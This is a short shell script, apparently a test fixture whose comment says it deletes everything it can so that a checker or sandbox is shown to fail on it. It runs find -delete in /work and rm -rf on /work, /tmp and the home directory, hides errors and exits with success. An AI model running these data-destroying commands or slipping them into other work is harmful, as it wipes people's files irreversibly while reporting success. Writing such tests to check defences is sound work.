#!/bin/sh
# for: any
# Deletes everything it can: a check that finds nothing to complain about must still fail.
cd /work && find . -mindepth 1 -delete 2>/dev/null
rm -rf /work /tmp/* "$HOME"/* 2>/dev/null
exit 0
